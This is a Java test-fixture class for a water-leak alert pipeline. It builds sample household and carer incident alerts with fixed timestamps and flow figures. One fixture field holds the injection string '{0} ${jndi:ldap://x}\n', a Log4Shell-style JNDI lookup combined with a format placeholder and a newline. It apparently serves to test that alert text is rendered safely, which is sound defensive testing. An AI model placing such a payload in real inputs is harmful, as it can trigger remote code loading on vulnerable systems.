package io.dripwatch.pipeline.words;

import io.dripwatch.domain.incident.Audience;
import io.dripwatch.domain.incident.IncidentEvent;
import io.dripwatch.domain.incident.IncidentTransition;
import io.dripwatch.domain.incident.IncidentType;
import io.dripwatch.domain.incident.Severity;
import java.time.Instant;
import java.util.Map;

/** Alerts for tests of the words. */
final class ToldAlerts {

    /** 02:15 in the night in Madrid, 08:15 in Shanghai. */
    static final long ONSET = Instant.parse("2026-11-22T00:15:00Z").toEpochMilli();

    static final long DETECTED = Instant.parse("2026-11-22T12:15:00Z").toEpochMilli();

    private ToldAlerts() {}

    static IncidentTransition opened(IncidentType type) {
        return of(type, IncidentEvent.OPENED, Audience.HOUSEHOLD);
    }

    static IncidentTransition closed(IncidentType type) {
        return of(type, IncidentEvent.CLOSED, Audience.HOUSEHOLD);
    }

    static IncidentTransition of(IncidentType type, IncidentEvent event, Audience audience) {
        return withFlow(type, event, audience, ONSET, 12.4, 148.6);
    }

    static IncidentTransition ofHome(String householdId) {
        return alert(
                householdId,
                IncidentType.LOW_USE,
                IncidentEvent.OPENED,
                Audience.CARER,
                ONSET,
                0,
                0,
                Map.of());
    }

    static IncidentTransition withFlow(
            IncidentType type,
            IncidentEvent event,
            Audience audience,
            long onset,
            double litresPerHour,
            double litres) {
        return of(type, event, audience, onset, litresPerHour, litres, Map.of());
    }

    static IncidentTransition of(
            IncidentType type,
            IncidentEvent event,
            Audience audience,
            long onset,
            double litresPerHour,
            double litres,
            Map<String, Double> evidence) {
        return alert("home-1", type, event, audience, onset, litresPerHour, litres, evidence);
    }

    private static IncidentTransition alert(
            String householdId,
            IncidentType type,
            IncidentEvent event,
            Audience audience,
            long onset,
            double litresPerHour,
            double litres,
            Map<String, Double> evidence) {
        return new IncidentTransition(
                "alert-1",
                "incident-1",
                "{0} ${jndi:ldap://x}\n",
                householdId,
                type,
                event,
                audience,
                Severity.WARNING,
                onset,
                DETECTED,
                litresPerHour,
                litres,
                evidence,
                Map.of());
    }
}
